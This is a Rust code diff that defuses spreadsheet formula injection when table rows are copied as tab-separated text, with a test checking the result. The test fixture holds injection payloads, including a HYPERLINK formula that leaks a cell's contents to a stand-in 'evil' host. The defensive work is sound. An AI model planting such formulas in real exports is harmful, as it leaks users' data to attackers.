@@ -9,6 +9,7 @@ use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
 use ts_rs::TS;
 
+use crate::datasets::formulas::defused;
 use crate::{Error, Session};
 
 /// How the table asks for items. Every option keeps one row per stored item, so a row's number
@@ -243,7 +244,8 @@ pub const MAX_COPY_ROWS: u64 = 50_000;
 
 /// Rows as tab-separated text, the way spreadsheets paste it: a header row of the columns, then
 /// one line per item. Text with a tab, line break or quote is quoted, quotes doubled; nested
-/// values are compact JSON and missing or null values empty.
+/// values are compact JSON and missing or null values empty. Text (column names included) that
+/// a spreadsheet would run as a formula is defused; numbers stay numbers.
 pub fn tab_separated(items: &[Value], columns: &[String]) -> String {
     let mut out = String::new();
     let mut line = |cells: &mut dyn Iterator<Item = String>| {
@@ -251,12 +253,12 @@ pub fn tab_separated(items: &[Value], columns: &[String]) -> String {
         out.push_str(&cells.join("\t"));
         out.push_str("\r\n");
     };
-    line(&mut columns.iter().map(|c| spreadsheet_cell(c)));
+    line(&mut columns.iter().map(|c| spreadsheet_cell(&defused(c))));
     for item in items {
         line(&mut columns.iter().map(|column| {
             let text = match cell(item, column) {
                 None | Some(Value::Null) => String::new(),
-                Some(Value::String(text)) => text.clone(),
+                Some(Value::String(text)) => defused(text).into_owned(),
                 Some(other) => other.to_string(),
             };
             spreadsheet_cell(&text)
@@ -303,5 +305,63 @@ mod tests {
              Lampe «Nova»\t5.5\t\"two\tcells?\n\"\"no\"\"\"\t\r\n\
              \t\t\t\"[\"\"a\"\",\"\"b\"\"]\"\r\n"
         );
+    }
+
+    #[test]
+    fn copied_rows_carry_no_formula_from_an_actor() {
+        let items = [json!({
+            "link": "=HYPERLINK(\"https://evil/?\"&B2,\"Open\")",
+            "sum": "@SUM(A1)",
+            "tab": "\t=1",
+            "text": "-2+3",
+            "number": -3.5,
+            "numeric text": "-3.5",
+        })];
+        let columns = [
+            "=header",
+            "link",
+            "sum",
+            "tab",
+            "text",
+            "number",
+            "numeric text",
+        ]
+        .map(String::from);
+        let copied = tab_separated(&items, &columns);
+        assert_eq!(
+            copied,
+            "'=header\tlink\tsum\ttab\ttext\tnumber\tnumeric text\r\n\
+             \t\"'=HYPERLINK(\"\"https://evil/?\"\"&B2,\"\"Open\"\")\"\t'@SUM(A1)\t\"'\t=1\"\t'-2+3\t-3.5\t-3.5\r\n"
+        );
+        // Read back the way a spreadsheet splits it: no cell starts a formula.
+        for line in copied.split("\r\n").filter(|l| !l.is_empty()) {
+            for cell in split_tab_separated(line) {
+                assert!(!cell.starts_with(['=', '@', '\t', '\r']), "{cell:?}");
+                assert!(
+                    !cell.starts_with(['+', '-']) || cell.parse::<f64>().is_ok(),
+                    "{cell:?}"
+                );
+            }
+        }
+    }
+
+    /// The cells of one line of tab-separated text, quotes undone, as spreadsheets paste it.
+    fn split_tab_separated(line: &str) -> Vec<String> {
+        let (mut cells, mut cell, mut quoted, mut chars) =
+            (Vec::new(), String::new(), false, line.chars().peekable());
+        while let Some(c) = chars.next() {
+            match (c, quoted) {
+                ('"', false) if cell.is_empty() => quoted = true,
+                ('"', true) if chars.peek() == Some(&'"') => {
+                    cell.push('"');
+                    chars.next();
+                }
+                ('"', true) => quoted = false,
+                ('\t', false) => cells.push(std::mem::take(&mut cell)),
+                (c, _) => cell.push(c),
+            }
+        }
+        cells.push(cell);
+        cells
     }
 }
